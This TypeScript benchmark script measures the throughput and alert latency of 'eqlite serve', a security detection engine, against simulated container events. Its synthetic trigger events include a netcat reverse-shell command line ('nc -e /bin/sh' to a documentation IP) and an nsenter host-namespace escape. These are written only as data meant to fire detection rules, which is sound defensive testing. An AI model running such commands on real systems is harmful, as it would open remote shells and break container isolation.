/**
 * `npm run bench:serve`: `eqlite serve` over the Elasticsearch `_bulk` API, on simulated
 * cloud_defend events (src/sim) and the bundled rules. Benchmarks measure; they never assert.
 *
 * 1. Sustained throughput: a fresh `serve` child (bundled rules, `--port 0`), and a load
 *    generator here that sends prebuilt bulk bodies (`create` actions, the event's data stream
 *    as `_index`) over a few keep-alive connections as fast as they are acknowledged. The last
 *    request goes alone, after every other one was answered, with `refresh=wait_for`: its answer
 *    means every event has been run through the rules and its alerts written. Reported:
 *    acknowledged events/s (a request is answered once its events are queued, not run) and
 *    processed events/s (the sustained rate, rules included), MB/s of event bytes, the server's
 *    peak RSS (VmHWM) and CPU time. No --data-dir: the server keeps no write-ahead log.
 * 2. `eqlite scan -q --format summary --rules rules/ FILE` over the same events (a temp file),
 *    and over an empty file for its startup; the ratio serve ÷ scan, both with scan's startup
 *    in its wall time and without it.
 * 3. Latency from receipt to alert at 50% and 90% of the processed rate: a fresh server per
 *    level, fresh simulated events (the next seeds) paced by a token bucket, with events that
 *    trigger single-event rules interleaved (tagged with a unique `process.entity_id`, after a
 *    short warm-up). Latency = the moment the alert line is read from the server's stdout minus
 *    the moment the bulk request carrying the event was sent. The triggers rotate over four
 *    rules and stay well under each rule's max_signals (100 per 5-minute interval).
 *
 * eqlite runs from dist/ when it is built and no file of src/ is newer, else from src/ through
 * tsx; `--src` forces src/.
 *
 *   npm run bench:serve [-- --events N] [--seed N] [--src] [--latency-seconds S] [--triggers N]
 *                       [--attack-rate F] [--batch N] [--latency-batch N] [--connections N] [--keep]
 */
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import { Agent, request } from "node:http";
import { cpus, tmpdir, totalmem } from "node:os";
import { join } from "node:path";
import { performance } from "node:perf_hooks";
import { setTimeout as sleep } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { simulate } from "../src/sim/index.ts";
import { summary } from "./percentiles.ts";
import { markdownTable, writeResults } from "./report.ts";

const { values } = parseArgs({
  options: {
    events: { type: "string", default: "100000" },
    seed: { type: "string", default: "1" },
    "attack-rate": { type: "string", default: "0.001" },
    batch: { type: "string", default: "1000" },
    "latency-batch": { type: "string", default: "500" },
    connections: { type: "string", default: "4" },
    "latency-seconds": { type: "string", default: "20" },
    triggers: { type: "string", default: "200" },
    src: { type: "boolean", default: false },
    keep: { type: "boolean", default: false },
  },
});
const eventCount = Number(values.events);
const seed = Number(values.seed);
const attackRate = Number(values["attack-rate"]);
const batchSize = Number(values.batch);
const latencyBatch = Number(values["latency-batch"]);
const connections = Number(values.connections);
const latencySeconds = Number(values["latency-seconds"]);
const triggerCount = Number(values.triggers);
/** the latency phases send no trigger during their first seconds: the server's JIT warms up */
const WARMUP_SECONDS = 2;

const root = fileURLToPath(new URL("..", import.meta.url));
const at = (p: string) => join(root, p);
const rulesDir = at("rules");
const timeBin = existsSync("/usr/bin/time") ? "/usr/bin/time" : undefined;
const distEntry = at("dist/cli/entry.js");
const newerSrc = existsSync(distEntry) ? srcNewerThan(distEntry) : undefined;
const useDist = !values.src && newerSrc === 0;
const cli = useDist ? [distEntry] : ["--import", "tsx", at("src/cli/entry.ts")];
const cliLabel = useDist ? "node dist/cli/entry.js" : "node --import tsx src/cli/entry.ts";

const k = (n: number) => `${(n / 1000).toFixed(1)}k ev/s`;
const mbs = (n: number) => `${n.toFixed(1)} MB/s`;
const mb = (n?: number) => (n === undefined ? "–" : `${n.toFixed(0)} MB`);
const msText = (n?: number) => (n === undefined ? "–" : `${n.toFixed(0)} ms`);
const MiB = 2 ** 20;

const work = mkdtempSync(join(tmpdir(), "eqlite-bench-serve-"));

// --- children: every one is killed when this process ends, however it ends ----------------
const children = new Set<ChildProcess>();
/** Children run in their own process group (scan's /usr/bin/time has node under it): the group is killed. */
const killAll = () => {
  for (const c of children) {
    if (c.exitCode !== null || c.signalCode !== null || c.pid === undefined) continue;
    try {
      process.kill(-c.pid, "SIGKILL");
    } catch {
      c.kill("SIGKILL");
    }
  }
};
process.on("exit", killAll);
for (const signal of ["SIGINT", "SIGTERM", "SIGHUP"] as const) {
  process.on(signal, () => {
    killAll();
    if (!values.keep) rmSync(work, { recursive: true, force: true });
    process.exit(130);
  });
}

// --- bulk bodies ---------------------------------------------------------------------------
interface Batch {
  body: Buffer;
  events: number;
  /** bytes of the events as NDJSON (what `scan` would read) */
  eventBytes: number;
  /** tags of the triggering events in this batch */
  tags: string[];
}

const DATA_STREAM = /"data_stream":\{"dataset":"([^"]+)","namespace":"([^"]+)","type":"([^"]+)"\}/;
const actionCache = new Map<string, string>();
/** The action line an Elastic Agent would send: `create` into the event's data stream. */
function actionFor(line: string): string {
  const m = DATA_STREAM.exec(line);
  const index = m ? `${m[3]}-${m[1]}-${m[2]}` : "logs-cloud_defend.process-default";
  let action = actionCache.get(index);
  if (!action) {
    action = JSON.stringify({ create: { _index: index } });
    actionCache.set(index, action);
  }
  return action;
}

class BatchBuilder {
  readonly batches: Batch[] = [];
  private parts: string[] = [];
  private events = 0;
  private eventBytes = 0;
  private tags: string[] = [];
  constructor(private readonly size: number) {}

  add(line: string, tag?: string): void {
    this.parts.push(actionFor(line), line);
    this.events++;
    this.eventBytes += Buffer.byteLength(line) + 1;
    if (tag) this.tags.push(tag);
    if (this.events === this.size) this.cut();
  }

  finish(): Batch[] {
    if (this.events > 0) this.cut();
    return this.batches;
  }

  private cut(): void {
    this.batches.push({
      body: Buffer.from(`${this.parts.join("\n")}\n`),
      events: this.events,
      eventBytes: this.eventBytes,
      tags: this.tags,
    });
    this.parts = [];
    this.events = 0;
    this.eventBytes = 0;
    this.tags = [];
  }
}

// --- triggering events ---------------------------------------------------------------------
/**
 * Single-event rules of rules/ and what makes a container process start match each: rules the
 * simulated background seldom fires (not kubectl, package managers or web shells, which it fires
 * often enough to reach max_signals), so that every trigger can be alerted.
 */
const TRIGGERS: Array<{
  rule: string;
  name: string;
  executable: string;
  args: string[];
  interactive?: boolean;
}> = [
  {
    rule: "Host Namespace Entered from a Container",
    name: "nsenter",
    executable: "/usr/bin/nsenter",
    args: ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "sh"],
  },
  {
    rule: "Reverse Shell via Network Utility in a Container",
    name: "nc",
    executable: "/usr/bin/nc",
    args: ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
  },
  {
    rule: "Interactive Shell Started by kubectl exec in a Container",
    name: "python3",
    executable: "/usr/bin/python3",
    args: ["python3"],
    interactive: true,
  },
  {
    rule: "Hidden Executable Started from a Temporary Directory",
    name: ".x",
    executable: "/tmp/.x",
    args: ["/tmp/.x"],
  },
];
const TAG = /"entity_id":"(eqlb-\d+-\d+)"/;

type Json = Record<string, unknown>;
/** A background process start inside a container, not interactive: the shape every trigger copies. */
function triggerTemplate(): Json {
  for (const line of simulate({ events: 20000, seed, attackRate: 0 })) {
    const e = JSON.parse(line) as Json & {
      container?: unknown;
      event: { category: string[]; type: string[] };
      process?: { interactive?: boolean };
    };
    if (e.container && e.event.category.includes("process") && e.event.type.includes("start")) {
      if (e.process && e.process.interactive === false) return e;
    }
  }
  throw new Error("no container process start in the simulated events to copy triggers from");
}

function triggerLine(template: Json, n: number, phase: number, timestamp: string | undefined): string {
  const spec = TRIGGERS[n % TRIGGERS.length];
  const e = structuredClone(template) as Json & {
    "@timestamp": string;
    event: Json;
    process: Json;
  };
  if (timestamp) {
    e["@timestamp"] = timestamp;
    e.event.created = timestamp;
    e.event.ingested = timestamp;
    e.process.start = timestamp;
  }
  e.event.id = `eqlb${phase}${String(n).padStart(10, "0")}`;
  Object.assign(e.process, {
    entity_id: `eqlb-${phase}-${n}`,
    name: spec.name,
    executable: spec.executable,
    args: spec.args,
    args_count: spec.args.length,
    command_line: spec.args.join(" "),
    interactive: spec.interactive === true,
  });
  if (spec.interactive) {
    // a new session led by the process itself inside the container: what `kubectl exec -it` looks like
    const self: Json = {};
    for (const key of [
      "pid",
      "entity_id",
      "name",
      "executable",
      "args",
      "start",
      "working_directory",
      "user",
      "group",
    ])
      if (key in e.process) self[key] = e.process[key];
    self.interactive = true;
    e.process.entry_leader = { ...self, same_as_process: true, entry_meta: { type: "container" } };
    e.process.session_leader = { ...self, same_as_process: true };
  }
  return JSON.stringify(e);
}

// --- the server ----------------------------------------------------------------------------
interface Server {
  child: ChildProcess;
  url: URL;
  /** alert lines read from stdout */
  alerts: number;
  /** tag → when its alert line was read (performance.now()) */
  tagged: Map<string, number>;
  /** alert lines carrying a tag: more than `tagged.size` when a trigger fired more than one rule */
  taggedLines: number;
  stderrTail: string[];
  exited: Promise<void>;
}

async function startServer(): Promise<Server> {
  const child = spawn(
    process.execPath,
    [...cli, "serve", "--host", "127.0.0.1", "--port", "0", "--rules", rulesDir, "--no-watch-rules"],
    { cwd: root, stdio: ["ignore", "pipe", "pipe"], detached: true },
  );
  children.add(child);
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  const server: Partial<Server> & Pick<Server, "alerts" | "tagged" | "taggedLines" | "stderrTail"> = {
    child,
    alerts: 0,
    tagged: new Map(),
    taggedLines: 0,
    stderrTail: [],
    exited,
  };
  let carry = "";
  child.stdout!.setEncoding("utf8");
  child.stdout!.on("data", (chunk: string) => {
    const now = performance.now();
    const text = carry + chunk;
    const lines = text.split("\n");
    carry = lines.pop() ?? "";
    for (const line of lines) {
      if (line === "") continue;
      server.alerts++;
      const m = TAG.exec(line);
      if (!m) continue;
      server.taggedLines++;
      if (!server.tagged.has(m[1])) server.tagged.set(m[1], now);
    }
  });
  const url = await new Promise<URL>((resolve, reject) => {
    let errCarry = "";
    const timer = setTimeout(() => reject(new Error("serve did not listen within 60 s")), 60_000);
    child.stderr!.setEncoding("utf8");
    child.stderr!.on("data", (chunk: string) => {
      const lines = (errCarry + chunk).split("\n");
      errCarry = lines.pop() ?? "";
      for (const line of lines) {
        server.stderrTail.push(line);
        if (server.stderrTail.length > 20) server.stderrTail.shift();
        if (!line.includes("eqlite serve listening")) continue;
        try {
          const u = (JSON.parse(line) as { url?: string }).url;
          if (u) {
            clearTimeout(timer);
            resolve(new URL(u));
          }
        } catch {
          // not a JSON log line
        }
      }
    });
    child.once("exit", (code, signal) => {
      clearTimeout(timer);
      reject(new Error(`serve exited before listening (${signal ?? code}): ${server.stderrTail.join("\n")}`));
    });
  });
  server.url = url;
  return server as Server;
}

interface ProcessUsage {
  peakRssMB?: number;
  cpuSeconds?: number;
}

/** Linux: peak RSS (VmHWM) and user+system CPU time of a live process. */
function usage(pid: number | undefined): ProcessUsage {
  if (pid === undefined || !existsSync(`/proc/${pid}/status`)) return {};
  const out: ProcessUsage = {};
  try {
    const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
    if (hwm) out.peakRssMB = Number(hwm[1]) / 1024;
    const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
    const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
    out.cpuSeconds = (Number(fields[11]) + Number(fields[12])) / clockTicks();
  } catch {
    // the process is gone
  }
  return out;
}

let ticks: number | undefined;
function clockTicks(): number {
  ticks ??= Number(spawnSync("getconf", ["CLK_TCK"], { encoding: "utf8" }).stdout?.trim()) || 100;
  return ticks;
}

/** SIGTERM (serve drains and exits 0), SIGKILL after 20 s. */
async function stopServer(server: Server | undefined): Promise<void> {
  if (!server) return;
  const { child } = server;
  if (child.exitCode === null && child.signalCode === null) {
    child.kill("SIGTERM");
    const timer = setTimeout(() => child.kill("SIGKILL"), 20_000);
    await server.exited;
    clearTimeout(timer);
  }
  children.delete(child);
}

// --- HTTP ----------------------------------------------------------------------------------
interface Answer {
  status: number;
  text: string;
}

function post(agent: Agent, url: URL, path: string, body?: Buffer, method = "POST"): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        agent,
        hostname: url.hostname,
        port: url.port,
        path,
        method,
        headers: body
          ? { "content-type": "application/x-ndjson", "content-length": String(body.length) }
          : {},
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString() }));
        res.on("error", reject);
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

/** What libbeat and Logstash ask for: a few kilobytes instead of one object per event. */
const BULK_PATH = "/_bulk?filter_path=errors,items.*.error,items.*.status";

interface Sent {
  acked: number;
  itemErrors: number;
  retries: number;
}

/** One bulk request; a 429 (queue full) or 503 is retried with backoff, as shippers do. */
async function sendBulk(
  agent: Agent,
  url: URL,
  batch: Batch,
  extra = "",
  onSend?: () => void,
): Promise<Sent> {
  let retries = 0;
  for (;;) {
    onSend?.();
    const a = await post(agent, url, BULK_PATH + extra, batch.body);
    if (a.status === 429 || a.status === 503) {
      retries++;
      if (retries > 50) throw new Error(`bulk refused ${retries} times: ${a.status} ${a.text.slice(0, 200)}`);
      await sleep(Math.min(1000, 10 * 2 ** retries));
      continue;
    }
    if (a.status !== 200) throw new Error(`bulk answered ${a.status}: ${a.text.slice(0, 300)}`);
    if (a.text.startsWith('{"errors":false')) return { acked: batch.events, itemErrors: 0, retries };
    const parsed = JSON.parse(a.text) as { items?: Array<Record<string, { status?: number }>> };
    let itemErrors = 0;
    for (const item of parsed.items ?? []) {
      const status = Object.values(item)[0]?.status ?? 0;
      if (status >= 300) itemErrors++;
    }
    return { acked: batch.events - itemErrors, itemErrors, retries };
  }
}

/** The sum of a metric's samples in /metrics, only those whose labels hold one of `labels` when given. */
async function metric(agent: Agent, url: URL, name: string, labels?: string[]): Promise<number> {
  const a = await post(agent, url, "/metrics", undefined, "GET");
  let sum = 0;
  for (const line of a.text.split("\n")) {
    if (!line.startsWith(name)) continue;
    const next = line[name.length];
    if (next !== " " && next !== "{") continue;
    if (labels && !labels.some((l) => line.includes(l))) continue;
    sum += Number(line.slice(line.lastIndexOf(" ") + 1));
  }
  return sum;
}

// --- 1. throughput -------------------------------------------------------------------------
interface ThroughputResult {
  events: number;
  requests: number;
  eventsPerRequest: number;
  connections: number;
  eventMB: number;
  bulkMB: number;
  ackedMs: number;
  ackedEventsPerSecond: number;
  processedMs: number;
  eventsPerSecond: number;
  mbPerSecond: number;
  processedByServer: number;
  itemErrors: number;
  retries429: number;
  alerts: number;
  peakRssMB?: number;
  cpuSeconds?: number;
}

async function throughput(batches: Batch[]): Promise<ThroughputResult> {
  const server = await startServer();
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  try {
    const before = usage(server.child.pid);
    const total = batches.reduce((n, b) => n + b.events, 0);
    let next = 0;
    let acked = 0;
    let itemErrors = 0;
    let retries = 0;
    let lastAck = 0;
    const started = performance.now();
    const worker = async () => {
      while (next < batches.length - 1) {
        const r = await sendBulk(agent, server.url, batches[next++]);
        acked += r.acked;
        itemErrors += r.itemErrors;
        retries += r.retries;
        lastAck = performance.now();
      }
    };
    await Promise.all(Array.from({ length: connections }, worker));
    // alone and last: answered once every event before it went through the rules and its alerts were written
    const last = await sendBulk(agent, server.url, batches.at(-1)!, "&refresh=wait_for");
    const done = performance.now();
    acked += last.acked;
    itemErrors += last.itemErrors;
    retries += last.retries;
    const processedByServer = await metric(agent, server.url, "eqlite_events_processed_total");
    const after = usage(server.child.pid);
    const eventBytes = batches.reduce((n, b) => n + b.eventBytes, 0);
    const processedMs = done - started;
    const ackedMs = (lastAck || done) - started;
    return {
      events: total,
      requests: batches.length,
      eventsPerRequest: batchSize,
      connections,
      eventMB: eventBytes / MiB,
      bulkMB: batches.reduce((n, b) => n + b.body.length, 0) / MiB,
      ackedMs,
      ackedEventsPerSecond: ((acked - last.acked) / ackedMs) * 1000,
      processedMs,
      eventsPerSecond: (acked / processedMs) * 1000,
      mbPerSecond: (eventBytes / MiB / processedMs) * 1000,
      processedByServer,
      itemErrors,
      retries429: retries,
      alerts: server.alerts,
      peakRssMB: after.peakRssMB,
      cpuSeconds:
        after.cpuSeconds === undefined || before.cpuSeconds === undefined
          ? undefined
          : after.cpuSeconds - before.cpuSeconds,
    };
  } finally {
    agent.destroy();
    await stopServer(server);
  }
}

// --- 2. scan -------------------------------------------------------------------------------
interface Child {
  ok: boolean;
  ms: number;
  peakRssMB?: number;
  stdout: string;
  stderr: string;
}

/** Runs `node ARGS` to its end: wall time, and peak RSS when /usr/bin/time exists. */
async function runNode(args: string[]): Promise<Child> {
  const rssFile = join(work, `rss-${Math.random().toString(36).slice(2)}`);
  const [cmd, argv] = timeBin
    ? [timeBin, ["-f", "%M", "-o", rssFile, process.execPath, ...args]]
    : [process.execPath, args];
  const started = performance.now();
  const child = spawn(cmd, argv, { cwd: root, stdio: ["ignore", "pipe", "pipe"], detached: true });
  children.add(child);
  let stdout = "";
  let stderr = "";
  child.stdout!.setEncoding("utf8").on("data", (c: string) => {
    stdout += c;
  });
  child.stderr!.setEncoding("utf8").on("data", (c: string) => {
    stderr += c;
  });
  const status = await new Promise<number | null>((resolve, reject) => {
    child.once("error", reject);
    child.once("close", (code) => resolve(code));
  });
  children.delete(child);
  const ms = performance.now() - started;
  let peakRssMB: number | undefined;
  if (timeBin && existsSync(rssFile)) {
    const kb = Number(readFileSync(rssFile, "utf8").trim().split("\n").at(-1));
    if (Number.isFinite(kb)) peakRssMB = kb / 1024;
    rmSync(rssFile, { force: true });
  }
  return { ok: status === 0, ms, peakRssMB, stdout, stderr };
}

interface ScanResult {
  command: string;
  ms: number;
  startupMs: number;
  eventsPerSecond: number;
  mbPerSecond: number;
  /** events / (wall time − the wall time of the same scan over an empty file) */
  eventsPerSecondWithoutStartup: number;
  alerts: number;
  peakRssMB?: number;
  summary: string;
}

async function scan(file: string, empty: string, events: number): Promise<ScanResult> {
  const args = (f: string) => [...cli, "scan", "-q", "--format", "summary", "--rules", rulesDir, f];
  const cold = await runNode(args(empty));
  if (!cold.ok) throw new Error(`scan of an empty file failed: ${cold.stderr.trim()}`);
  const c = await runNode(args(file));
  if (!c.ok) throw new Error(`scan failed: ${c.stderr.trim().split("\n").slice(-3).join("\n")}`);
  const startup = Math.min(cold.ms, (await runNode(args(empty))).ms);
  // the summary: one line per rule, "  COUNT  SEVERITY  NAME"
  let alerts = 0;
  for (const m of c.stdout.matchAll(/^\s*(\d+)\s+\S+\s+\S/gm)) alerts += Number(m[1]);
  const mb = statSync(file).size / MiB;
  return {
    command: `${cliLabel} scan -q --format summary --rules rules/ <file>`,
    ms: c.ms,
    startupMs: startup,
    eventsPerSecond: (events / c.ms) * 1000,
    mbPerSecond: (mb / c.ms) * 1000,
    eventsPerSecondWithoutStartup: (events / Math.max(1, c.ms - startup)) * 1000,
    alerts,
    peakRssMB: c.peakRssMB,
    summary: c.stdout.trim(),
  };
}

// --- 3. latency ----------------------------------------------------------------------------
interface LatencyResult {
  load: number;
  targetEventsPerSecond: number;
  achievedEventsPerSecond: number;
  seconds: number;
  events: number;
  requests: number;
  eventsPerRequest: number;
  triggersSent: number;
  triggersAlerted: number;
  /** alerts carrying a trigger's tag (one per trigger expected) */
  triggerAlerts: number;
  latency: ReturnType<typeof summary>;
  /** round trip of the bulk requests (send → answer) */
  ack: ReturnType<typeof summary>;
  alerts: number;
  /** matches beyond max_signals, all rules */
  overMaxSignals: number;
  /** of which the rules the triggers fire: a trigger counted here has no alert */
  overMaxSignalsTriggerRules: number;
  retries429: number;
  peakRssMB?: number;
  cpuSeconds?: number;
}

function latencyBatches(phase: number, rate: number, template: Json): { batches: Batch[]; triggers: number } {
  const background = Math.max(latencyBatch, Math.round(rate * latencySeconds));
  const warm = Math.min(Math.round(rate * WARMUP_SECONDS), Math.floor(background / 2));
  const triggers = Math.min(triggerCount, background - warm);
  const spacing = (background - warm) / triggers;
  const builder = new BatchBuilder(latencyBatch);
  let i = 0;
  let n = 0;
  let nextTrigger = warm + Math.floor(spacing / 2);
  // the next seeds: events the throughput run has not sent (a fresh server sees them from the start)
  for (const line of simulate({ events: background, seed: seed + phase, attackRate })) {
    if (n < triggers && i === nextTrigger) {
      const ts = /^\{"@timestamp":"([^"]+)"/.exec(line)?.[1];
      builder.add(triggerLine(template, n, phase, ts), `eqlb-${phase}-${n}`);
      n++;
      nextTrigger = warm + Math.floor((n + 0.5) * spacing);
    }
    builder.add(line);
    i++;
  }
  return { batches: builder.finish(), triggers: n };
}

async function latency(phase: number, load: number, maxRate: number, template: Json): Promise<LatencyResult> {
  const rate = load * maxRate;
  const { batches, triggers } = latencyBatches(phase, rate, template);
  const server = await startServer();
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  try {
    const before = usage(server.child.pid);
    const sentAt = new Map<string, number>();
    const acks: number[] = [];
    let retries = 0;
    let inflight = 0;
    let wake: (() => void) | undefined;
    const pending = new Set<Promise<void>>();
    // token bucket: `rate` events a second, room for one request's events
    const capacity = latencyBatch;
    let tokens = capacity;
    let refilled = performance.now();
    const refill = () => {
      const now = performance.now();
      tokens = Math.min(capacity, tokens + ((now - refilled) / 1000) * rate);
      refilled = now;
    };
    let firstSend = 0;
    let lastSend = 0;
    let failure: unknown;
    for (const batch of batches) {
      if (failure) throw failure;
      refill();
      if (tokens < batch.events) {
        await sleep(((batch.events - tokens) / rate) * 1000);
        refill();
      }
      tokens -= batch.events;
      while (inflight >= connections) await new Promise<void>((r) => (wake = r));
      inflight++;
      const p = (async () => {
        let sent = 0;
        const r = await sendBulk(agent, server.url, batch, "", () => {
          sent = performance.now();
          firstSend ||= sent;
          lastSend = sent;
          // a retried request counts from its last send
          for (const tag of batch.tags) sentAt.set(tag, sent);
        });
        acks.push(performance.now() - sent);
        retries += r.retries;
      })()
        .catch((error) => {
          failure ??= error;
        })
        .finally(() => {
          inflight--;
          pending.delete(p);
          const w = wake;
          wake = undefined;
          w?.();
        });
      pending.add(p);
    }
    await Promise.all(pending);
    if (failure) throw failure;
    const sentEvents = batches.reduce((n, b) => n + b.events, 0);
    // every event through the rules, then the alerts still on their way (a second or so at most)
    const deadline = performance.now() + 60_000;
    while ((await metric(agent, server.url, "eqlite_events_processed_total")) < sentEvents) {
      if (performance.now() > deadline) throw new Error("serve did not process every event within 60 s");
      await sleep(50);
    }
    const grace = performance.now() + 3000;
    while (server.tagged.size < triggers && performance.now() < grace) await sleep(20);
    const overMaxSignals = await metric(agent, server.url, "eqlite_rule_over_max_signals_total");
    const overMaxSignalsTriggerRules = await metric(
      agent,
      server.url,
      "eqlite_rule_over_max_signals_total",
      TRIGGERS.map((t) => `rule="${t.rule}"`),
    );
    const after = usage(server.child.pid);
    const latencies: number[] = [];
    for (const [tag, sent] of sentAt) {
      const alerted = server.tagged.get(tag);
      if (alerted !== undefined) latencies.push(alerted - sent);
    }
    const firstBatch = batches[0].events;
    return {
      load,
      targetEventsPerSecond: rate,
      achievedEventsPerSecond: ((sentEvents - firstBatch) / (lastSend - firstSend)) * 1000,
      seconds: (lastSend - firstSend) / 1000,
      events: sentEvents,
      requests: batches.length,
      eventsPerRequest: latencyBatch,
      triggersSent: triggers,
      triggersAlerted: latencies.length,
      triggerAlerts: server.taggedLines,
      latency: summary(latencies),
      ack: summary(acks),
      alerts: server.alerts,
      overMaxSignals,
      overMaxSignalsTriggerRules,
      retries429: retries,
      peakRssMB: after.peakRssMB,
      cpuSeconds:
        after.cpuSeconds === undefined || before.cpuSeconds === undefined
          ? undefined
          : after.cpuSeconds - before.cpuSeconds,
    };
  } finally {
    agent.destroy();
    await stopServer(server);
  }
}

// --- the run -------------------------------------------------------------------------------
async function main() {
  console.log(`eqlite measured through: ${cliLabel}`);
  if (!useDist)
    console.log(
      `  (${values.src ? "--src" : newerSrc === undefined ? "dist/ is not built" : `${newerSrc} file(s) of src/ are newer than dist/; \`npm run build\` to measure dist/`})`,
    );
  console.log(
    `machine: ${cpus().length} CPUs (${cpus()[0]?.model ?? "?"}), ${(totalmem() / 2 ** 30).toFixed(1)} GB, Node ${process.version}`,
  );

  // input: the events as bulk bodies, and as an NDJSON file for scan
  const file = join(work, "events.ndjson");
  const empty = join(work, "empty.ndjson");
  writeFileSync(empty, "");
  const genStarted = Date.now();
  const builder = new BatchBuilder(batchSize);
  {
    const fd = openSync(file, "w");
    let lines: string[] = [];
    for (const line of simulate({ events: eventCount, seed, attackRate })) {
      builder.add(line);
      lines.push(line);
      if (lines.length === 2000) {
        writeSync(fd, `${lines.join("\n")}\n`);
        lines = [];
      }
    }
    if (lines.length > 0) writeSync(fd, `${lines.join("\n")}\n`);
    closeSync(fd);
  }
  const batches = builder.finish();
  const fileBytes = statSync(file).size;
  console.log(
    `input: ${eventCount.toLocaleString()} simulated cloud_defend events (seed ${seed}, attack rate ${attackRate}), ${(fileBytes / MiB).toFixed(0)} MB, ${batches.length} bulk requests of ${batchSize}; generated in ${((Date.now() - genStarted) / 1000).toFixed(1)} s`,
  );

  console.log(
    `\n1. sustained throughput over _bulk (${connections} connections, ${batchSize} events a request)`,
  );
  const tp = await throughput(batches);
  batches.length = 0;
  console.log(
    `  acknowledged: ${k(tp.ackedEventsPerSecond)} (${(tp.ackedMs / 1000).toFixed(2)} s to the last answer before the final request)`,
  );
  console.log(
    `  processed   : ${k(tp.eventsPerSecond)}, ${mbs(tp.mbPerSecond)} (${(tp.processedMs / 1000).toFixed(2)} s until the final refresh=wait_for answer); ${tp.processedByServer.toLocaleString()} events run, ${tp.alerts} alerts, ${tp.itemErrors} item errors, ${tp.retries429} retries`,
  );
  console.log(
    `  server      : peak RSS ${mb(tp.peakRssMB)}, CPU ${tp.cpuSeconds?.toFixed(1) ?? "–"} s (${tp.cpuSeconds === undefined ? "–" : ((tp.cpuSeconds / tp.processedMs) * 100000).toFixed(0)}% of one core)`,
  );

  console.log("\n2. eqlite scan over the same events");
  const sc = await scan(file, empty, eventCount);
  console.log(
    `  scan: ${(sc.ms / 1000).toFixed(2)} s wall (startup ${(sc.startupMs / 1000).toFixed(2)} s), ${k(sc.eventsPerSecond)}, ${mbs(sc.mbPerSecond)}; ${k(sc.eventsPerSecondWithoutStartup)} without startup; ${sc.alerts} alerts; peak RSS ${mb(sc.peakRssMB)}`,
  );
  const ratio = tp.eventsPerSecond / sc.eventsPerSecond;
  const ratioWithoutStartup = tp.eventsPerSecond / sc.eventsPerSecondWithoutStartup;
  console.log(
    `  serve ÷ scan: ${ratio.toFixed(2)}× (scan's startup in its time), ${ratioWithoutStartup.toFixed(2)}× (without it); target ≥ 0.7×`,
  );
  if (!values.keep) rmSync(file, { force: true });

  const template = triggerTemplate();
  const lat: LatencyResult[] = [];
  for (const [phase, load] of [
    [1, 0.5],
    [2, 0.9],
  ] as const) {
    console.log(
      `\n3. latency at ${load * 100}% (${k(load * tp.eventsPerSecond)} for ${latencySeconds} s, ${latencyBatch} events a request, up to ${connections} in flight; ${triggerCount} triggering events after ${WARMUP_SECONDS} s)`,
    );
    const r = await latency(phase, load, tp.eventsPerSecond, template);
    lat.push(r);
    const l = r.latency;
    console.log(
      `  sent ${r.events.toLocaleString()} events at ${k(r.achievedEventsPerSecond)} over ${r.seconds.toFixed(1)} s; ${r.triggersAlerted}/${r.triggersSent} triggering events alerted, ${r.triggerAlerts} alerts for them (${r.alerts} alerts in all; over max_signals: ${r.overMaxSignals}, ${r.overMaxSignalsTriggerRules} of them by the triggered rules)`,
    );
    console.log(
      `  receipt → alert: p50 ${msText(l.p50Ms)}, p90 ${msText(l.p90Ms)}, p99 ${msText(l.p99Ms)}, max ${msText(l.maxMs)} (min ${msText(l.minMs)})`,
    );
    console.log(
      `  bulk answer: p50 ${msText(r.ack.p50Ms)}, p99 ${msText(r.ack.p99Ms)}; server peak RSS ${mb(r.peakRssMB)}, CPU ${r.cpuSeconds === undefined ? "–" : `${((r.cpuSeconds / r.seconds) * 100).toFixed(0)}% of one core`}`,
    );
  }

  // --- table -------------------------------------------------------------------------------
  const half = lat[0];
  const rows: string[][] = [
    ["measure", "result", "target"],
    [
      "serve sustained (processed)",
      `${k(tp.eventsPerSecond)}, ${mbs(tp.mbPerSecond)}, peak RSS ${mb(tp.peakRssMB)}`,
      "",
    ],
    ["serve acknowledged", k(tp.ackedEventsPerSecond), ""],
    [
      "scan (wall, startup included)",
      `${k(sc.eventsPerSecond)}, ${mbs(sc.mbPerSecond)}, peak RSS ${mb(sc.peakRssMB)}`,
      "",
    ],
    [
      "serve ÷ scan",
      `${ratio.toFixed(2)}× (${ratioWithoutStartup.toFixed(2)}× vs scan without startup)`,
      "≥ 0.7×",
    ],
    ...lat.map((r) => [
      `receipt → alert at ${r.load * 100}% (${k(r.achievedEventsPerSecond)})`,
      `p50 ${msText(r.latency.p50Ms)}, p99 ${msText(r.latency.p99Ms)}, max ${msText(r.latency.maxMs)}; ${r.triggersAlerted}/${r.triggersSent} alerted`,
      r === half ? "p99 < 1000 ms" : "",
    ]),
  ];
  console.log(`\n${markdownTable(rows)}`);

  const out = writeResults("serve", {
    eqlite: cliLabel,
    input: { events: eventCount, seed, attackRate, bytes: fileBytes },
    throughput: tp,
    scan: sc,
    ratio: { serveOverScan: ratio, serveOverScanWithoutStartup: ratioWithoutStartup, target: 0.7 },
    latency: lat,
    targets: { ratio: 0.7, p99At50PercentMs: 1000, p99At50PercentMeasuredMs: half.latency.p99Ms },
  });
  console.log(`\n→ ${out}`);
}

/** How many .ts files of src/ changed after `file` was written (dist/ is stale when any did). */
function srcNewerThan(file: string): number {
  const ls = spawnSync("find", [at("src"), "-name", "*.ts", "-newer", file], { encoding: "utf8" });
  return ls.stdout.split("\n").filter(Boolean).length;
}

try {
  await main();
} catch (error) {
